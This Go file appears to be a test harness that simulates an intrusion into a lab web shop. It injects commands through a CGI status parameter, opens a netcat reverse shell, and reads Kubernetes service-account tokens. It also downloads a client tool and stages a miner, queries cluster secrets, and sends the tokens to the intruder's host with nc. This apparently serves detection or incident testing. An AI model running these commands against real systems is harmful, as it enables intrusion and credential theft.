//go:build incident

package record

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"time"
)

// everyday is what the shop's customers do.
func (a *attack) everyday() {
	for range 4 {
		a.customer.asks(a.t, a.web, "/", "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0")
		a.customer.asks(a.t, a.web, "/cgi-bin/status?host=localhost:8080", "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0")
		time.Sleep(3 * time.Second)
	}
}

func (a *attack) recon() {
	for _, path := range []string{"/", "/.git/config", "/admin", "/cgi-bin/", "/cgi-bin/status?host=localhost:8080"} {
		a.intruder.asks(a.t, a.web, path, "curl/8.14.1")
	}
}

// exploit has the status script run a command.
func (a *attack) exploit() { a.intruder.asks(a.t, a.web, inject("id"), "curl/8.14.1") }

// openShell has it give the intruder a shell.
func (a *attack) openShell() {
	a.shell = &shell{Server: a.intruder.Sink(a.t, 4444)}
	a.intruder.asks(a.t, a.web, inject(fmt.Sprintf("(nc %s 4444 -e /bin/sh >/dev/null 2>&1 &)", a.intruder.Addr4)), "curl/8.14.1")
	a.k.Eventually(a.t, "the intruder's shell", func(context.Context) error {
		if a.shell.Connections.Load() == 0 {
			return errors.New("nobody has connected")
		}
		return nil
	})
	a.shell.runs(a.t, "whoami")
}

func (a *attack) discovery() {
	for _, line := range []string{"uname -a", "hostname", "env", "cat /proc/self/status", "ls -la /var/run/secrets", "mount"} {
		a.shell.runs(a.t, line)
		time.Sleep(time.Second)
	}
}

const tokenFile, cloudToken = "/var/run/secrets/kubernetes.io/serviceaccount/token", "/var/run/secrets/eks.amazonaws.com/serviceaccount/token"

func (a *attack) steal() {
	a.token = strings.TrimSpace(a.shell.runs(a.t, "cat "+tokenFile))
	if strings.Count(a.token, ".") != 2 {
		a.t.Fatalf("no token: %q", a.token)
	}
}

// tool is where the intruder's own client is, until he removes it.
const tool = "/tmp/.kc"

// bringTool downloads a client of the API: the image has none.
func (a *attack) bringTool() {
	a.intruder.serve(a.t, map[string]string{"pod.json": tuner, "xmrig": string(miner()), "sync.sh": "echo in step; hostname\n", "kc": clientProgram(a.t)})
	a.shell.runs(a.t, fmt.Sprintf("wget -q -O %s http://%s:8000/kc; chmod 755 %[1]s", tool, a.intruder.Addr4))
}

func (a *attack) askInside() {
	for _, path := range []string{
		"/apis/authentication.k8s.io/v1", "/api/v1/namespaces", "/api/v1/secrets", "/api/v1/nodes", "/api/v1/namespaces/kube-system/configmaps",
		"/api/v1/namespaces/billing/secrets/db-credentials", "/api/v1/namespaces/shop/secrets",
	} {
		a.shell.runs(a.t, tool+" GET "+path+" | head -c 200")
		time.Sleep(500 * time.Millisecond)
	}
}

func (a *attack) exfiltrate() {
	sink := a.intruder.Sink(a.t, 9001)
	a.shell.runs(a.t, fmt.Sprintf("cat %s %s | nc -w 2 %s 9001", tokenFile, cloudToken, a.intruder.Addr4))
	a.k.Eventually(a.t, "the tokens to arrive", func(context.Context) error {
		if !strings.Contains(sink.Got(), a.token) {
			return errors.New("they have not")
		}
		return nil
	})
}
